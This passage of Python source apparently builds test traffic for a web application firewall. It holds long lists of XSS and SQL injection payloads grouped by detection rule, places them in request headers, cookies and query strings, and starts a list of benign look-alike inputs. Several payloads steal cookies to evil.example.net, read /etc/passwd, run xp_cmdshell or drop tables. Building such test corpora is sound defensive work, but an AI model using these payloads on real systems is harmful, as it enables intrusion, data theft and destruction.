        "<v:vmlframe src=\"//evil.example.net/x.vml#xss\"></v:vmlframe>",
        "<vmlframe src=x>",
        "<vmlframe xmlns=urn:schemas-microsoft-com:vml style=behavior:url(#default#vml) src=//evil.example.net/a#x>",
        "<?xml:namespace prefix=v ns=urn:schemas-microsoft-com:vml><v:vmlframe src=x#a>",
        "<V:VMLFRAME SRC=//evil.example.net/a>",
        "<v:image src=javascript:alert(1)>",
    ],
    # IE XSS Filters (941210: obfuscated javascript:)
    "ie-obfuscated-javascript": [
        "j&#x61;vascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)",
        "j\\u0061vascript:alert(1)",
        "javas&#99;ript:alert(1)",
        "ja&NewLine;vascript:alert(1)",
        "j a v a s c r i p t:alert(1)",
    ],
    # IE XSS Filters (941220: vbscript:)
    "ie-vbscript": [
        "vbscript:msgbox(1)",
        "VBScript:Execute(\"MsgBox 1\")",
        "vb&#x73;cript:msgbox(1)",
        "<a href=\"vbscript:alert(1)\">",
        "v&#98;script:msgbox",
        "vbs\tcript:msgbox(document.cookie)",
        "<img src=vbscript:msgbox(1)>",
    ],
    # IE XSS Filters (941230: embed)
    "ie-embed": [
        "<embed src=javascript:alert(1)>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" type=\"image/svg+xml\">",
        "<embed src=//evil.example.net/x.swf allowscriptaccess=always>",
        "<embed code=x>",
        "<embed type=text/html src=//evil.example.net>",
        "<embed/src=x>",
    ],
    # IE XSS Filters (941240: import / implementation)
    "ie-import": [
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "<import implementation=x>",
        "<t:set attributeName=innerHTML to=<img/src=x/onerror=alert(1)>>",
        "implementation=\"#default#VML\"",
        "<?IMPORT implementation=//evil.example.net/x.htc>",
        "<html xmlns:t><?import namespace=t implementation=#default#time2>",
    ],
    # IE XSS Filters (941250: meta http-equiv)
    "ie-meta-refresh": [
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<META HTTP-EQUIV=refresh CONTENT=\"0;URL=data:text/html,<script>alert(1)</script>\">",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
        "<meta http-equiv=set-cookie content=a=b>",
        "<meta http-equiv=\"refresh\" content=\"1;url=//evil.example.net\">",
        "<meta http-equiv=x-ua-compatible content=IE=5>",
    ],
    # IE XSS Filters (941260: meta charset)
    "ie-meta-charset": [
        "<meta charset=\"UTF-7\">",
        "<meta charset=x-imap4-modified-utf7>",
        "<META CHARSET=utf-7 />",
        "<meta content=\"text/html; charset=utf-7\">",
        "<meta charset=\"ISO-2022-JP\">",
        "<meta charset=\"x-mac-farsi\">",
    ],
    # IE XSS Filters (941270: link href)
    "ie-link-href": [
        "<link rel=stylesheet href=javascript:alert(1)>",
        "<link rel=import href=//evil.example.net/x.html>",
        "<LINK REL=\"stylesheet\" HREF=\"http://evil.example.net/x.css\">",
        "<link href=data:text/css,*{x:expression(alert(1))} rel=stylesheet>",
        "<link rel=preload href=x onload=alert(1)>",
        "<link/href=//evil.example.net>",
    ],
    # IE XSS Filters (941280: base href)
    "ie-base-href": [
        "<base href=\"//evil.example.net/\">",
        "<BASE HREF=\"javascript:alert(1)//\">",
        "<base href=http://evil.example.net/ target=_blank>",
        "<base/href=x>",
        "<base href=data:>",
        "<base target=\"<img src=x onerror=alert(1)>\">",
    ],
    # IE XSS Filters (941290: applet)
    "ie-applet": [
        "<applet code=\"Evil.class\" codebase=\"//evil.example.net/\">",
        "<APPLET>",
        "<applet src=x>",
        "<applet archive=x.jar code=x>",
        "<applet code=javascript:alert(1)>",
        "<applet object=x>",
    ],
    # IE XSS Filters (941300: object)
    "ie-object": [
        "<object data=\"javascript:alert(1)\">",
        "<object type=\"text/x-scriptlet\" data=\"//evil.example.net/x.sct\">",
        "<OBJECT CLASSID=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\">",
        "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
        "<object codebase=//evil.example.net>",
        "<object/data=//evil.example.net/x.swf>",
    ],
    # US-ASCII Malformed Encoding XSS Filter
    "us-ascii-malformed": [
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "%BCscript%BEalert(1)%BC/script%BE",
        "\u00bcimg src=x onerror=alert(1)\u00be",
        "\u00bcsvg onload=alert(1)\u00be",
        "%bciframe src=javascript:alert(1)%be",
        "\u00bc/title\u00be\u00bcscript\u00beconfirm(1)\u00bc/script\u00be",
    ],
    # UTF-7 Encoding IE XSS
    "utf7": [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-img src=x onerror=alert(1)+AD4-",
        "+ADw-svg onload+AD0-alert(1)+AD4-",
        "+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-",
        "%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-",
    ],
    # JSFuck / Hieroglyphy obfuscation
    "jsfuck": [
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        "(![]+[])[+!+[]]",
        "+!![]+!![]+[+[]]",
        "[][[]]+[]",
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$};",
        "(!![]+[])[+!+[]]+(!![]+[])[!+[]+!+[]+!+[]]",
        "[+[]]+[![]]+[!![]]",
    ],
    # JavaScript global variable found
    "js-global": [
        "window['al'+'ert'](1)",
        "self['ale'+'rt'](document.domain)",
        "globalThis[\"ev\"+\"al\"]('1')",
        "top[/al/.source+/ert/.source](1)",
        "document['coo'+'kie']",
        "parent['eval']('x')",
        "frames['alert'](1)",
    ],
    # XSS Attack Detected via libinjection (941101, PL2)
    "libinjection-xss-2": [
        "<svg/onload=alert(1)>",
        "\"><img src=x onerror=prompt(1)>",
        "<marquee onstart=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "'-alert(1)-'",
        "<a href=javascript:alert(1)>click</a>",
        "</title><script>alert(1)</script>",
    ],
    # XSS Filter - Category 5: Disallowed HTML Attributes
    "disallowed-attribute": [
        "<div style=\"background:url(javascript:alert(1))\">",
        "<p dynsrc=x>",
        "<img lowsrc=javascript:alert(1)>",
        "<a datasrc=#x>",
        "<x style=x:expression(alert(1))>",
        "<input formaction=javascript:alert(1)>",
        "<svg><animate attributeName=href values=javascript:alert(1) />",
    ],
    # Possible XSS Attack Detected - HTML Tag Handler
    "html-tag-handler": [
        "<form action=//evil.example.net><input name=q>",
        "<textarea>",
        "<body onload=x>",
        "<iframe src=//evil.example.net>",
        "<frameset>",
        "<marquee>",
        "<isindex>",
        "<layer src=x>",
    ],
    # IE XSS Filters (941330)
    "ie-quote-breakout": [
        "';alert(1);//",
        "\";document.location='//evil.example.net';//",
        "'||alert(1)||'",
        "\",x=alert(1),\"",
        "';top.location=name;'",
        "\"-confirm(1)-\"",
        "'+eval(name)+'",
    ],
    # IE XSS Filters (941340)
    "ie-property-assign": [
        "\".constructor.constructor('alert(1)')()//",
        "'.innerHTML='<img src=x onerror=alert(1)>'",
        "\";document.body.innerHTML=\"x",
        "'.src='//evil.example.net",
        "\".cookie=\"x",
        "x'.location='javascript:alert(1)",
    ],
    # AngularJS client side template injection (941380 and 4.x)
    "angularjs-template": [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{7*7}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
        "[\"a\",\"alert(1)\"].sort(toString.constructor);}}",
        "{{$eval.constructor('alert(1)')()}}",
        "{{[].pop.constructor('alert(1)')()}}",
    ],
    # 4.x: Javascript method detected
    "js-method": [
        "document.write('<img src=x>')",
        "eval(atob('YWxlcnQoMSk='))",
        "String.fromCharCode(97,108,101,114,116)",
        "location.assign('javascript:alert(1)')",
        "window.open('//evil.example.net')",
        "fetch('//evil.example.net?c='+document.cookie)",
        "document.createElement('script')",
    ],
    # 4.x: XSS JavaScript function without parentheses
    "js-no-parens": [
        "alert`1`",
        "onerror=alert;throw 1",
        "setTimeout`alert\\x281\\x29`",
        "location='javascript:alert%281%29'",
        "[1].find(alert)",
        "top.onerror=eval;throw'=alert\\x281\\x29'",
        "{onerror=alert}throw 1337",
    ],
}

SQLI: dict[str, list[str]] = {
    # SQL Injection Attack Detected via libinjection
    "libinjection-sqli": [
        "1' OR '1'='1",
        "admin'--",
        "1 UNION SELECT username,password FROM users--",
        "' OR 1=1#",
        "1; DROP TABLE users--",
        "') OR ('a'='a",
        "1' AND 1=CONVERT(int,@@version)--",
        "-1 OR 2>1",
    ],
    # Common DB Names Detected
    "db-names": [
        "information_schema.tables",
        "UNION SELECT * FROM mysql.user",
        "msdb..sysjobs",
        "pg_catalog.pg_tables",
        "master..sysdatabases",
        "sqlite_master",
        "SELECT name FROM sys.databases",
    ],
    # Blind sqli tests using sleep() or benchmark()
    "sleep-benchmark": [
        "sleep(5)",
        "1 AND SLEEP(10)",
        "BENCHMARK(5000000,MD5(1))",
        "' OR sleep(5)#",
        "(SELECT * FROM (SELECT(SLEEP(5)))a)",
        "benchmark(10000000,sha1('x'))",
        "SLEEP /**/ (3)",
    ],
    # SQL benchmark and sleep injection attempts including conditional queries
    "conditional-sleep": [
        "1 AND IF(1=1,SLEEP(5),0)",
        "' OR IF(SUBSTRING(version(),1,1)='5',BENCHMARK(2000000,MD5(1)),0)--",
        "SELECT IF(1,SLEEP(3),1)",
        "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
        "and if(ascii(substr(user(),1,1))>100,sleep(2),0)",
        "select benchmark(1e7,sha1(1))",
        "' AND (SELECT 1 FROM (SELECT SLEEP(5))x)--",
    ],
    # MSSQL code execution and information gathering
    "mssql-exec": [
        "; exec xp_cmdshell 'dir'--",
        "EXEC master..xp_cmdshell 'whoami'",
        "' ; EXEC sp_configure 'show advanced options',1--",
        "1 UNION SELECT @@version--",
        "; exec('sel'+'ect 1')",
        "select * from openrowset('SQLOLEDB','';'sa';'','select 1')",
        "UNION ALL SELECT user_name()",
        "';shutdown--",
    ],
    # Integer overflow attacks (skipfish) and the magic number
    "integer-overflow": [
        "2147483648",
        "4294967296",
        "-2147483649",
        "3.0.00738585072007e-308",
        "9223372036854775808",
        "4294967295",
        "2.2250738585072007e-308",
        "18446744073709551616",
    ],
    # Conditional SQL injection attempts
    "conditional": [
        "' OR CASE WHEN 1=1 THEN 1 ELSE 0 END--",
        "1 AND IF(1=1,1,0)",
        "(CASE WHEN (SELECT COUNT(*) FROM users)>0 THEN 1 ELSE 1/0 END)",
        "' AND IFNULL(NULL,1)=1--",
        "IIF(1=1,'a','b')",
        "1) AND (SELECT CASE WHEN 1=1 THEN 1 END)=1--",
        "and nullif(1,1) is null",
    ],
    # MySQL charset switch and MSSQL DoS
    "charset-switch": [
        "alter database x character set gbk",
        "SET NAMES 'latin1'",
        "' OR 1=1 WAITFOR DELAY '0:0:5'--",
        "; waitfor time '23:59:59'--",
        "1';set names big5;--",
        "convert(x using utf8)",
        "' collate utf8_general_ci--",
    ],
    # MATCH AGAINST, MERGE and EXECUTE IMMEDIATE
    "match-merge-execute": [
        "MATCH(title) AGAINST('+x' IN BOOLEAN MODE)",
        "EXECUTE IMMEDIATE 'DROP TABLE users'",
        "MERGE INTO users USING dual ON (1=1)",
        "' UNION SELECT MATCH(a) AGAINST ('b')--",
        "begin execute immediate 'grant dba to x'; end;",
        "MERGE users AS t USING (SELECT 1) s ON 1=1 WHEN MATCHED THEN DELETE;",
        "match (name) against (0x61)",
    ],
    # Basic sql injection, common attack string for mysql, oracle and others
    "basic-union": [
        "union select * from users",
        "' UNION SELECT null, table_name FROM all_tables--",
        "UNION SELECT 1,2,3 from dual",
        "1 union all select password from admin",
        "union select name from sysobjects",
        "UnIoN SeLeCt * from x",
        "union/**/select/**/1/**/from/**/x",
    ],
    # Postgres pg_sleep, waitfor delay and database shutdown
    "pg-sleep-waitfor": [
        "; SELECT pg_sleep(10)--",
        "'; WAITFOR DELAY '00:00:05'--",
        "; shutdown with nowait--",
        "1) ; select pg_sleep(3)",
        "waitfor delay '0:0:10'",
        "';SHUTDOWN;--",
        "pg_sleep(1)",
    ],
    # Basic MongoDB SQL injection
    "mongodb": [
        "{\"$ne\": null}",
        "[$ne]=1",
        "{\"$gt\":\"\"}",
        "$where: 'sleep(100)'",
        "{\"username\":{\"$regex\":\"^a\"}}",
        "[$nin][]=x",
        "'; return db.getCollectionNames(); var x='",
    ],
    # MySQL and PostgreSQL stored procedure/function injections
    "stored-procedure": [
        "'; CREATE PROCEDURE p() BEGIN SELECT 1; END--",
        "procedure analyse()",
        "exec sp_executesql N'select 1'",
        "; DECLARE @q varchar(99) SET @q='x' EXEC(@q)--",
        "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
        "CREATE FUNCTION f RETURNS STRING SONAME 'udf.dll'",
        "select lo_import('/etc/passwd')",
    ],
    # MySQL UDF injection and other data/structure manipulation
    "udf-manipulation": [
        "; DROP TABLE users;--",
        "'; INSERT INTO admins VALUES('x','y')--",
        "; ALTER TABLE users ADD col int--",
        "CREATE FUNCTION sys_eval RETURNS string SONAME 'lib.so'",
        "; TRUNCATE TABLE logs--",
        "'; DELETE FROM sessions--",
        "1; UPDATE users SET role='admin' WHERE id=1--",
        "select load_file('/etc/passwd')",
    ],
    # Concatenated basic SQL injection and SQLLFI
    "concatenated": [
        "1' ; SELECT * FROM users",
        "load_file('/etc/passwd')",
        "' || (select user) || '",
        "SELECT * INTO OUTFILE '/var/www/s.php'",
        "'; select 1",
        "concat(0x3a,user())",
        "x' AND 1=0 UNION SELECT",
    ],
    # MySQL in-line comment detected
    "mysql-inline-comment": [
        "/*!50000UNION*/ SELECT 1",
        "/*!SELECT*/ 1",
        "1/*!and*/1=1",
        "/*! 12345 or 1=1 */",
        "'/*!OR*/1=1--",
        "/*!32302 1/0, */",
        "/*!union*//*!select*/",
    ],
    # Common Injection Testing Detected
    "injection-testing": [
        "'",
        "''",
        "';",
        "' --",
        "\"\"",
        "1'1",
        "')",
    ],
    # SQL Operator Detected
    "sql-operator": [
        "1 OR 1=1",
        "x' RLIKE '^a",
        "id NOT BETWEEN 0 AND 100",
        "a' SOUNDS LIKE 'b",
        "1 && 1",
        "2 DIV 1",
        "id REGEXP '^[a-d]'",
        "1 XOR 1",
    ],
    # SQL Tautology Detected
    "tautology": [
        "1=1",
        "'a'='a'",
        "' or 2=2--",
        "x' or 'x'='x",
        "1 or 3 > 2",
        "\" or \"\"=\"",
        "and 1 like 1",
    ],
    # SQL Injection Attack (942150: function names)
    "sql-functions": [
        "concat(user(),version())",
        "ascii(substring(database(),1,1))",
        "char(65,66)",
        "' AND ORD(MID(user(),1,1))>64--",
        "group_concat(table_name)",
        "hex(password)",
        "updatexml(1,concat(0x7e,version()),1)",
        "extractvalue(1,concat(0x5c,database()))",
    ],
    # Basic SQL authentication bypass attempts 1/3
    "auth-bypass-1": [
        "admin' --",
        "' or ''='",
        "admin'/*",
        "\" or \"a\"=\"a",
        "') or ('1'='1'--",
        "1' or 1=1 limit 1 --",
        "' or 'x'='x'#",
        "admin\")--",
    ],
    # MySQL comment-/space-obfuscated injections and backtick termination
    "comment-space-obfuscation": [
        "UNION/**/SELECT/**/password/**/FROM/**/users",
        "1'/**/or/**/1=1",
        "name`=1 or `1",
        "sel/**/ect",
        "'||1#",
        "1'%0bor%0b1=1",
        "select`version`()",
    ],
    # Chained SQL injection attempts 1/2
    "chained-1": [
        "1; select 1",
        "'; shutdown",
        "1 AND 1=1; SELECT * FROM users",
        "'; exec master..sp_who",
        "x' ; update users set name='x'",
        "1);drop table t;--",
        "\"; select name from users",
    ],
    # Basic SQL authentication bypass attempts 2/3
    "auth-bypass-2": [
        "' or 1=1 limit 1--",
        "admin' #",
        "1' having 1=1--",
        "' group by userid having 1=1--",
        "' or 0x50=0x50",
        "\" or 1 --",
        "' or 'a' like 'a",
    ],
    # MySQL comments, conditions and ch(a)r injections
    "comments-char": [
        "char(0x41)",
        "chr(97)||chr(98)",
        "') or 1=1-- -",
        "1 and ascii(1)",
        "concat(char(60),char(63))",
        "/*comment*/ or 1",
        "'and 1 --",
    ],
    # Chained SQL injection attempts 2/2
    "chained-2": [
        "'; begin declare @x varchar(8000) set @x=0x73656C656374 exec(@x) end--",
        "1; select @@version",
        "\"; select 1; --",
        "); select user",
        "x'); insert into log values(1)",
        "'; if 1=1 select 1",
        "' ; declare @s nvarchar(99)",
    ],
    # Classic SQL injection probings 1/3
    "probing-1": [
        "' or 1",
        "\" or \"",
        "1' or '1",
        "x' and 'x",
        "' xor",
        "\" and 1=1",
        "') or",
        "1\" like \"1",
    ],
    # Basic SQL authentication bypass attempts 3/3
    "auth-bypass-3": [
        "' or 'x' in ('x')",
        "' IN (SELECT username FROM users)--",
        "admin' and 1 in (1)--",
        "' or 1 in (select 1)#",
        "\" in (\"a\")",
        "' and id in (1,2,3)",
    ],
    # Basic SQL injection based on keyword alter or union
    "alter-union": [
        "ALTER TABLE users DROP COLUMN pass",
        "' UNION ALL select 1",
        "alter user root identified by 'x'",
        "1 union select",
        "union distinct select 1",
        "ALTER DATABASE db SET SINGLE_USER",
    ],
    # Classic SQL injection probings 2/3
    "probing-2": [
        "\" or 1=1 --",
        "' or 1 = 1 /*",
        "1' limit 1 -- ",
        "x\")) or ((\"x",
        "'<>'",
        "' > 0 --",
        "\"=\"",
    ],
    # SQL Injection Attack (942380)
    "having-order": [
        "' having 1=1--",
        "order by 10--",
        "1 group by 1",
        "' ORDER BY 1,2,3--",
        "having count(*)>0",
        "exists(select * from users)",
        "1 and exists (select 1)",
    ],
    # SQL Injection Attack (942390)
    "or-operators": [
        "' or 1 regexp '1",
        "' or 'a' sounds like 'a",
        "1 or true",
        "' or '1' rlike '1'",
        "x' OR ascii(1)",
        "' xor 1=1",
    ],
    # SQL Injection Attack (942400)
    "and-operators": [
        "' and exists(select 1 from dual)--",
        "1 and 1 in (1)",
        "and not 1=2",
        "' and user is not null--",
        "and 'a'between'a'and'b'",
        "and 1 rlike 1",
    ],
    # SQL Injection Attack (942410)
    "sql-function-calls": [
        "abs(1)",
        "ascii(user())",
        "current_user()",
        "database()",
        "version()",
        "md5('x')",
        "@@datadir",
    ],
    # SQL Injection Attack (942470)
    "stored-procedure-names": [
        "xp_regread",
        "sp_password",
        "sysadmin",
        "UTL_HTTP.REQUEST('http://evil.example.net')",
        "DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
        "xp_dirtree '\\\\evil.example.net\\x'",
        "sp_oacreate",
    ],
    # SQL Injection Attack (942480)
    "sql-statements": [
        "SELECT * FROM users WHERE 1",
        "INSERT INTO users VALUES (1)",
        "UPDATE accounts SET balance=1e9",
        "DELETE FROM orders WHERE 1",
        "select * from information_schema.columns",
        "insert into logs(x) values('y')",
        "drop table if exists users",
    ],
    # Restricted SQL Character Anomaly Detection (args): # of special characters exceeded (12)
    "special-char-anomaly": [
        "((((((((((((1))))))))))))",
        "'\"`;--/*!@#$%^&()",
        "~!@#$%^&*()-+={}[]|;:'\",<>",
        "'''''''''''''",
        ";;;;;;;;;;;;;;;;",
        "x'));--))--'))'",
        "@@@@@@@@@@@@@@",
    ],
    # SQL Comment Sequence Detected
    "comment-sequence": [
        "--",
        "1--",
        "/*",
        "*/",
        "admin'--",
        ";--",
        "-- -",
    ],
    # SQL Hex Encoding Identified
    "hex-encoding": [
        "0x61646d696e",
        "SELECT 0x73656c656374",
        "x'41424344'",
        "0x3c7363726970743e",
        "unhex('41')",
        "0X414243",
    ],
    # SQLi bypass attempt by ticks or backticks
    "ticks-backticks": [
        "`id`",
        "`users`.`password`",
        "select`1`",
        "'`'",
        "``",
        "a`or`1",
    ],
    # 4.x: JSON-Based SQL Injection
    "json-sqli": [
        "' or json_extract('{\"a\":1}','$.a')=1--",
        "' OR JSON_EXTRACT(data,'$.role')='admin",
        "json_keys((select * from users))",
        "' and '{\"a\":2}'::jsonb @> '{\"a\":1}'",
        "1 AND JSON_LENGTH('[1,2]')=2",
        "'||json_object('x',user())||'",
        "json_array(version())",
    ],
    # 4.x: MySQL Scientific Notation payload detected
    "scientific-notation": [
        "1.e(select 1)",
        "0.1e1union select 1",
        "1e0union select",
        "'1.0e1 or 1=1",
        "2.e(ascii(user()))",
        "1.e('a')",
        "0e1 union all select null",
    ],
    # 4.x: SQL Authentication bypass (split query)
    "auth-bypass-split": [
        "admin'/*",
        "*/='",
        "'/**/OR/**/1=1#",
        "x' || '",
        "*/or 1=1-- ",
        "foo'/*",
        "*/ or ''='",
    ],
    # 4.x: Basic SQL authentication bypass attempts 4/4
    "auth-bypass-4": [
        "' or true--",
        "admin' or '1'='1'/*",
        "' or 1 limit 1#",
        "\") or true--",
        "1' or '1'='1' -- -",
        "' or not false#",
        "' or username like '%",
    ],
}

FAMILIES: dict[str, dict[str, list[str]]] = {
    "sqli": SQLI, "xss": XSS, "php": PHP, "rce": RCE, "lfi": LFI, "rfi": RFI, "java": JAVA, "generic": GENERIC,
}

# ---------------------------------------------------------------------------------------------------------------
# Placements
# ---------------------------------------------------------------------------------------------------------------

REFERER_PAGES = [
    ("/search", [], "q"),
    ("/admin/users", [("page", "2")], "q"),
    ("/users", [("sort", "name")], "filter"),
    ("/reports", [("from", "2024-01-01")], "title"),
    ("/projects", [("status", "open")], "search"),
    ("/admin/audit", [("range", "7d")], "actor"),
    ("/orders", [("page", "3"), ("per_page", "50")], "customer"),
    ("/help/articles", [], "term"),
    ("/settings/team", [("tab", "members")], "find"),
    ("/inbox", [("folder", "archive")], "subject"),
]
COOKIE_NAMES = ["recent_search", "last_filter", "saved_view", "utm_term", "cart_note", "display_name", "ref_code"]
OTHER_HEADERS = ["X-Forwarded-For", "X-Search-Term", "Accept-Language", "X-Forwarded-Host", "X-Requested-With",
                 "Forwarded", "X-Real-IP"]
PLACE_ORDER = ["referer", "user-agent", "cookie", "other", "query"]
EXTRA_ORDER = ["referer", "user-agent", "referer", "referer"]


def header_safe(value: str) -> str:
    """A header value as a client sends it: controls and non-ASCII characters percent-encoded (no CR, LF, NUL)."""
    return "".join(c if (" " <= c <= "~" or c == "\t") else urllib.parse.quote(c) for c in value)


def js_encode(value: str) -> str:
    """encodeURIComponent, as a page's script or a browser's form submission stores a value."""
    return urllib.parse.quote(value, safe="-_.!~*'()")


def _base_headers(ua: str = CHROME) -> dict[str, str]:
    return {"User-Agent": ua, "Accept": "application/json, text/plain, */*", "Accept-Language": "en-US,en;q=0.9",
            "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}


def carrier(n: int, headers: dict[str, str]) -> dict[str, Any]:
    """An ordinary API request of the single-page app (which of three by n), carrying `headers`."""
    kind = n % 3
    if kind == 0:
        return {"method": "GET", "uri": f"/api/users?page={n % 9 + 1}", "body": "", "headers": headers}
    if kind == 1:
        return {"method": "GET", "uri": f"/api/users/{40 + n % 7}", "body": "", "headers": headers}
    body = json.dumps({"name": "Dana Kim", "email": "dana.kim@example.org", "role": "viewer"})
    return {"method": "POST", "uri": "/api/users", "body": body,
            "headers": {**headers, "Content-Type": "application/json", "Origin": "https://app.example.com"}}


def referer_url(n: int, value: str) -> str:
    """A page of the product with `value` in its query, as the browser's address bar holds it."""
    path, params, name = REFERER_PAGES[n % len(REFERER_PAGES)]
    if n % 2:   # a search form submitted by GET: spaces as '+'
        query = urllib.parse.urlencode([*params, (name, value)])
    else:       # a link built by the page's script
        query = "&".join([f"{k}={v}" for k, v in params] + [f"{name}={js_encode(value)}"])
    return f"https://app.example.com{path}?{query}"


def cookie_header(n: int, name: str, value: str) -> str:
    """The Cookie a browser sends: a session, consent, theme and `name`=`value` (URL-encoded)."""
    cookies = [f"session=s%3A{n:06d}Qm9vb2tzIGFyZSBmdW4.x7Yz", "cookie_consent=necessary%2Canalytics",
               f"theme={'dark' if n % 2 else 'light'}", f"{name}={js_encode(value)}",
               f"_ga=GA1.2.{1000000 + n}.1717000000"]
    return "; ".join(cookies if n % 2 else [cookies[0], cookies[3], cookies[1], cookies[2]])


def other_header(name: str, n: int, value: str) -> str:
    """`value` in a proxy or negotiation header, as a proxy chain or a script would set it."""
    v = header_safe(value)
    if name == "X-Forwarded-For":
        return v if n % 2 else f"198.51.100.{n % 200 + 1}, {v}"
    if name == "Forwarded":
        return f"for={v};proto=https"
    if name == "Accept-Language":
        return f"en-US,en;q=0.9,{v}"
    return v


def _place(place: str, n: int, payload: str) -> tuple[str, dict[str, Any]]:
    headers = _base_headers(BROWSERS[n % len(BROWSERS)])
    if place == "referer":
        return "header:Referer", carrier(n, {**headers, "Referer": referer_url(n, payload)})
    if place == "user-agent":
        ua = header_safe(payload) if n % 2 else f"{BROWSERS[n % len(BROWSERS)]} {header_safe(payload)}"
        return "header:User-Agent", carrier(n, {**headers, "User-Agent": ua})
    if place == "cookie":
        name = COOKIE_NAMES[n % len(COOKIE_NAMES)]
        return "cookie", carrier(n, {**headers, "Cookie": cookie_header(n, name, payload)})
    if place == "other":
        hname = OTHER_HEADERS[n % len(OTHER_HEADERS)]
        return f"header:{hname}", carrier(n, {**headers, hname: other_header(hname, n, payload)})
    uri = f"/api/users?q={urllib.parse.quote(payload, safe='')}&page={n % 5 + 1}"
    return "query", {"method": "GET", "uri": uri, "body": "", "headers": headers}


def slots(count: int, turn: int) -> list[str]:
    """The places of a title's `count` payloads: each of the five once, then Referer and User-Agent again,
    rotated by `turn` so that no payload position is tied to one place."""
    order = PLACE_ORDER + EXTRA_ORDER[:max(0, count - len(PLACE_ORDER))]
    k = turn % count
    return order[k:] + order[:k]


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    turn = 0
    for category, subs in FAMILIES.items():
        for sub, payloads in subs.items():
            turn += 1
            for payload, place in zip(payloads, slots(len(payloads), turn), strict=True):
                assert not any(c in payload for c in "\r\n\x00"), payload
                n += 1
                placement, req = _place(place, n, payload)
                yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": placement, "payload": payload}


# ---------------------------------------------------------------------------------------------------------------
# Benign: what real browsers and clients send in the same places.
# ---------------------------------------------------------------------------------------------------------------

SEARCHES = [
    "O'Brien", "Siobhán O'Neil", "D'Angelo", "Ben & Jerry's", "Smith & Wesson", "R&D budget 2024",
    "\"exact phrase\" match", "\"quarterly review\"", "Tom's Diner", "Zoë Müller", "São Paulo office", "Łódź",
    "北京 team", "Иван Петров", "Ngô Bảo Châu", "José García-López", "🎉 launch party", "coffee ☕ chat",
    "2024-01-01", "2024-03-31..2024-06-30", "Q3 2024", "12/25/2023", "invoice #4521", "order 10042",
    "status:open OR status:pending", "design OR marketing", "apples AND oranges", "NOT archived", "-draft",
    "tag:python -tag:java", "price < 100", "rating >= 4", "50% off", "$49.99", "C++ developer", "C# .NET",
    "node.js", "ASP.NET core", "union street", "Union Square cafe", "select comfort mattress", "drop shipping",
    "drop-down menu bug", "script writing course", "alert fatigue", "sleep study results", "exec summary",
    "window cleaning", "document management", "system design interview", "ping pong table", "cat food",
    "java developer remote", "php meetup", "shell company", "order by date", "table for two", "delete account",
    "update billing address", "insert coin", "where is my order?", "from: alice@example.com", "anna@example.org",
    "Dr. Jekyll & Mr. Hyde", "rock 'n' roll", "it's complicated", "L'Oréal", "Hawai'i", "5' 11\"",
    "100% cotton", "a/b testing", "TCP/IP", "wi-fi password reset", "1+1=2 worksheet", "x = y + 2",
    "Fish & Chips, London", "Johnson & Johnson", "AT&T", "Procter & Gamble", "Marks & Spencer",
    "<3 notes", "ETA ~ 3 days", "cost: $1,200.00", "#general", "@channel", "~/Downloads", "Ctrl+C",
    "one; two; three", "who is on call?", "How do I reset my 2FA?", "Ångström", "naïve café",
    "script of the play", "Project Phoenix (2024)", "[urgent] fix login", "{draft} roadmap",
    "Mary-Jane Watson", "van der Berg", "McDonald's", "O'Reilly Media", "it's 9:30 am",
]
REFERER_ONLY_FILTERS = [
    ("/users", "status=active&role=admin"), ("/reports", "from=2024-01-01&to=2024-03-31&format=pdf"),
    ("/admin/users", "page=4&sort=-created_at"), ("/orders", "customer=Ben%20%26%20Jerry%27s&status=shipped"),
    ("/search", "q=caf%C3%A9+near+me&lang=fr"), ("/projects", "tags=red%2Cgreen%2Cblue"),
    ("/inbox", "folder=sent&subject=Re%3A%20Q3%20numbers"), ("/settings/team", "tab=billing"),
    ("/help/articles", "term=how+to+export+csv"), ("/admin/audit", "actor=o%27neil&range=30d"),
    ("/users", "filter=name%3A%22Ann%20Lee%22"), ("/search", "q=%F0%9F%8E%89+party&page=2"),
    ("/reports", "title=Sales%20%26%20Marketing%20%E2%80%94%20FY24"), ("/orders", "page=1&per_page=100"),
    ("/", ""), ("/login", "next=%2Fadmin%2Fusers"), ("/dashboard", "view=week&tz=Europe%2FBerlin"),
]
USER_AGENTS = [
    CHROME, FIREFOX, SAFARI, IPHONE, EDGE,
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 "
    "Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 "
    "Mobile/15E148 Safari/604.1",
